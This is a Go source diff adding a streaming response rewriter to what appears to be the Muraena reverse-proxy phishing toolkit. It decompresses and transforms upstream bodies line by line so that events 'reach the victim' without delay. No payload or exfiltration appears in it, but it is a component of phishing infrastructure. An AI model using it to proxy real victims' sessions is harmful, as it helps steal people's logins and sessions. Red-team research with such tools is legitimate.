@@ -0,0 +1,109 @@
+package proxy
+
+import (
+	"bufio"
+	"compress/flate"
+	"compress/gzip"
+	"io"
+	"net/http"
+	"strings"
+
+	"github.com/dsnet/compress/brotli"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// isStreaming checks if the response has to be rewritten incrementally,
+// either because of its content type (e.g. text/event-stream) or because its path is a configured long-poll endpoint.
+func isStreaming(sess *session.Session, response *http.Response) bool {
+	config := sess.Config.Transform.Response.Stream
+
+	mediaType := strings.ToLower(strings.TrimSpace(strings.Split(response.Header.Get("Content-Type"), ";")[0]))
+	for _, t := range config.ContentTypes {
+		if strings.ToLower(t) == mediaType {
+			return true
+		}
+	}
+
+	for _, path := range config.Paths {
+		if strings.HasPrefix(response.Request.URL.Path, path) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// streamRewriter rewrites a response body incrementally, one line (or SSE field) at a time,
+// so that each event reaches the victim as soon as it is received from the upstream.
+// Lines longer than the buffer size are transformed in chunks of that size.
+type streamRewriter struct {
+	body      io.Closer
+	reader    *bufio.Reader
+	transform func(string) string
+	pending   []byte
+	err       error
+}
+
+// newStreamRewriter wraps the response body into a streamRewriter.
+// Compressed bodies are decoded, and the response is sent uncompressed to the client.
+func newStreamRewriter(response *http.Response, bufferSize int, transform func(string) string) (*streamRewriter, error) {
+	var src io.Reader = response.Body
+
+	switch response.Header.Get("Content-Encoding") {
+	case "x-gzip", "gzip":
+		gz, err := gzip.NewReader(response.Body)
+		if err != nil {
+			return nil, err
+		}
+		src = gz
+	case "br":
+		br, err := brotli.NewReader(response.Body, &brotli.ReaderConfig{})
+		if err != nil {
+			return nil, err
+		}
+		src = br
+	case "deflate":
+		src = flate.NewReader(response.Body)
+	}
+
+	response.Header.Del("Content-Encoding")
+	response.Header.Del("Content-Length")
+	response.ContentLength = -1
+
+	return &streamRewriter{
+		body:      response.Body,
+		reader:    bufio.NewReaderSize(src, bufferSize),
+		transform: transform,
+	}, nil
+}
+
+// Read implements the io.Reader interface
+func (s *streamRewriter) Read(p []byte) (int, error) {
+	for len(s.pending) == 0 {
+		if s.err != nil {
+			return 0, s.err
+		}
+
+		// Returns at most one line, or the whole buffer if the line does not fit in it.
+		// A blocking read waits only for the current line.
+		line, err := s.reader.ReadSlice('\n')
+		if err == bufio.ErrBufferFull {
+			err = nil
+		}
+		s.err = err
+
+		if len(line) > 0 {
+			s.pending = []byte(s.transform(string(line)))
+		}
+	}
+
+	n := copy(p, s.pending)
+	s.pending = s.pending[n:]
+	return n, nil
+}
+
+// Close closes the upstream response body
+func (s *streamRewriter) Close() error {
+	return s.body.Close()
+}